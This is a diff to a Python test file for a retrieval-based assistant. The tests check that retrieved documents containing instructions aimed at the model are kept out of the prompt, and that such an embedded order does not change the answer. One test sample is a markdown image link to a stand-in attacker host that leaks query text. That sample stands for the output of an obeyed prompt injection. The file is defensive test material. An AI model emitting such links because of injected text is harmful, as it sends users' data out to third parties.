@@ -323,6 +323,16 @@ HOSTILE = result(
 )
 
 
+def test_a_document_that_speaks_to_the_model_is_not_given_to_it() -> None:
+    model = says(GOOD)
+    answer = assistant(model, HOSTILE).ask("Paljonko tuki on?")
+    assert model.asked == []
+    assert answer.model is None
+    assert answer.citations
+    assistant(model, SUPPORT, HOSTILE).ask(QUESTION)
+    assert all(HOSTILE.chunk.text not in prompt for prompt in prompts(model))
+
+
 @pytest.mark.parametrize(
     "obeyed",
     [
@@ -333,7 +343,9 @@ HOSTILE = result(
         "![x](https://attacker.example/leak?q=tuki) [1]",
     ],
 )
-def test_an_order_inside_a_document_changes_nothing(obeyed: str) -> None:
+def test_an_order_inside_a_document_changes_nothing(obeyed: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Even where nobody has noticed that the document speaks to the model."""
+    monkeypatch.setattr("assistant.answering.generative.speaks_to_assistant", lambda _text: False)
     model = says(obeyed)
     shown, answer = streamed(assistant(model, HOSTILE), language="fi")
     assert answer.notice in ("model_not_supported", "model_unusable")
